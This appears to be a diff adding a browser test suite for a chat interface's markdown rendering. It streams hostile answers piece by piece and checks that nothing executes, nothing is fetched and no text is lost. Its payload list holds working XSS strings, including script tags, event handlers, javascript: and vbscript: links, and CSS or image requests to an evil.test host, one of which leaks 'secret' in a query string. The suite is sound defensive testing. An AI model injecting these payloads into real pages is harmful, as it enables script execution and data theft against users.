@@ -1,0 +1,127 @@
+// Hostile answers: nothing runs, nothing is fetched, nothing is lost, at any prefix.
+import { existsSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { expect, test } from '../fixtures/wire.ts';
+
+const CORPUS = join(import.meta.dirname, '../../../shared/hostile/payloads.json');
+
+interface Payload {
+  id: string;
+  markdown: string;
+}
+
+/** What this suite has of its own, so that it tests something where the corpus is not. */
+const OWN: Payload[] = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg/onload=alert(1)>',
+  '[a](javascript:alert(1)) [b](JaVaScRiPt&colon;alert(1)) [c](java\nscript:alert(1)) [d]( data:text/html,<script>alert(1)</script>)',
+  '[e]: javascript:alert(1)\n\n[e] and <javascript:alert(1)>',
+  '![x](https://evil.test/leak?data=secret) ![y](//evil.test/x.png) ![z](data:image/svg+xml,<svg onload=alert(1)>)',
+  '```html" onmouseover="alert(1)\n<b>\n```',
+  '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| `<script>` | [x](vbscript:alert(1)) |',
+  '<style>@import url(https://evil.test/x.css)</style><link rel=stylesheet href=//evil.test/x.css>',
+  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><base href="https://evil.test/">',
+  '$\\href{javascript:alert(1)}{x}$ and $$\\htmlStyle{background:url(//evil.test)}{y}$$',
+  '```mermaid\ngraph LR\n A["<img src=x onerror=alert(1)>"] --> B\n click A "javascript:alert(1)"\n```',
+].map((markdown, index) => ({ id: `own-${index}`, markdown }));
+
+const corpus: Payload[] = existsSync(CORPUS)
+  ? (JSON.parse(readFileSync(CORPUS, 'utf8')) as { payloads: Payload[] }).payloads
+  : [];
+const payloads = [...OWN, ...corpus];
+
+/** How many prefixes of each payload are looked at. */
+const ROUNDS = 8;
+
+/** Runs in the page: what must not be there, by answer. */
+function problems(): string[] {
+  const elements = new Set(
+    ('p h3 h4 h5 h6 ul ol li blockquote hr em strong del code pre a span bdi br sup table thead tbody tr th td div figure ' +
+      'figcaption button svg path g rect circle ellipse polygon polyline line text tspan defs marker title desc ' +
+      'math mrow mi mo mn ms mtext mspace msup msub msubsup mfrac msqrt mroot mover munder munderover mtable mtr mtd ' +
+      'mstyle mpadded mphantom menclose merror semantics annotation mmultiscripts mprescripts none').split(' '),
+  );
+  const found: string[] = [];
+  for (const element of document.querySelectorAll('.mt-answer *')) {
+    if (!elements.has(element.localName)) found.push(`element ${element.localName}`);
+    for (const { name, value } of element.attributes) {
+      if (name.startsWith('on') || name === 'style' || name === 'srcdoc' || name === 'formaction') found.push(`attribute ${name}`);
+      if ((name === 'href' || name === 'xlink:href' || name === 'src') && !/^(https?:|mailto:|#)/i.test(value)) found.push(`${name}=${value}`);
+      if (name === 'src') found.push(`fetches ${value}`);
+    }
+  }
+  return [...new Set(found)];
+}
+
+test('hostile answers at every stage: no script, no request, no freeze, nothing lost', async ({ wired, wire, page, guard }) => {
+  test.setTimeout(240_000);
+  await page.addInitScript(() => {
+    const fired: string[] = [];
+    const longest = { ms: 0 };
+    Object.assign(globalThis, { fired, longest });
+    for (const name of ['alert', 'prompt', 'confirm', 'print']) {
+      Object.assign(globalThis, { [name]: () => fired.push(name) });
+    }
+    new PerformanceObserver((list) => {
+      for (const entry of list.getEntries()) longest.ms = Math.max(longest.ms, entry.duration);
+    }).observe({ type: 'longtask', buffered: true });
+  });
+  await page.reload();
+  await expect(wired.composer).toBeVisible();
+  if (corpus.length === 0) console.log('hostile: the shared corpus is not there, skipped; own payloads only');
+
+  let prefixes = 0;
+  // A hundred at a time, their pieces mixed, as parallel messages are.
+  for (let from = 0; from < payloads.length; from += 100) {
+    const batch = payloads.slice(from, from + 100);
+    await wired.say(`batch ${from}`);
+    const run = await wire.run();
+    for (const { id } of batch) run.event({ type: 'TEXT_MESSAGE_START', messageId: id, role: 'assistant' });
+    for (let round = 0; round < ROUNDS; round += 1) {
+      for (const { id, markdown } of batch) {
+        // Something of each in the first round, so that they stand in this order.
+        const cut = (which: number) => Math.max(Math.min(which, 1), Math.floor((markdown.length * which) / ROUNDS));
+        const delta = markdown.slice(cut(round), cut(round + 1));
+        if (delta) run.event({ type: 'TEXT_MESSAGE_CONTENT', messageId: id, delta });
+        prefixes += 1;
+      }
+      run.event({ type: 'TEXT_MESSAGE_CONTENT', messageId: `mark-${from}-${round}`, delta: `mark ${from} ${round}` });
+      await expect(page.getByText(`mark ${from} ${round}`, { exact: true })).toBeAttached();
+      expect(await page.evaluate(problems), `batch ${from}, round ${round}`).toEqual([]);
+    }
+    run.finish();
+    await expect(page.locator('[data-live]')).toHaveCount(0);
+    await expect(page.locator('.mt-turn').last().locator('.mt-answer')).toHaveCount(batch.length + ROUNDS);
+    await expect.poll(() => page.evaluate(problems)).toEqual([]);
+    const lost = await page.locator('.mt-turn').last().evaluate((turn, given) => {
+      const answers = [...turn.querySelectorAll('.mt-answer')];
+      const gone: string[] = [];
+      for (const [index, { id, markdown }] of given.entries()) {
+        const answer = answers[index];
+        const attributes = [...(answer?.querySelectorAll('*') ?? [])].flatMap((node) => [...node.attributes].map(({ value }) => value));
+        const there = [answer?.textContent ?? '', ...attributes].join(' ');
+        const decoded = markdown.replaceAll(/&#?\w+;?|%[0-9a-f]{2}|\\./gi, ' ');
+        for (const word of decoded.match(/[a-z]{4,}/gi) ?? []) {
+          if (!there.toLowerCase().includes(word.toLowerCase())) gone.push(`${id}: ${word}`);
+        }
+      }
+      return gone;
+    }, batch);
+    expect(lost, 'words that are gone').toEqual([]);
+    // Whatever can be pointed at, focused or pressed, but for links, which lead where they say.
+    await page.evaluate(() => {
+      for (const element of document.querySelectorAll<HTMLElement>('.mt-answer *:not(a, a *, [data-act], [data-act] *)')) {
+        for (const type of ['pointerover', 'mouseover', 'mouseenter', 'focus', 'pointerdown', 'click']) {
+          element.dispatchEvent(new Event(type, { bubbles: true, cancelable: true }));
+        }
+      }
+    });
+  }
+  const { fired, longest } = await page.evaluate(() => {
+    const held = globalThis as unknown as { fired: string[]; longest: { ms: number } };
+    return { fired: held.fired, longest: held.longest.ms };
+  });
+  console.log(`hostile: ${payloads.length} payloads, ${prefixes} prefixes: ${fired.length} scripts, ${guard.unexpected.length} requests or violations, longest task ${Math.round(longest)} ms`);
+  expect(fired).toEqual([]);
+});
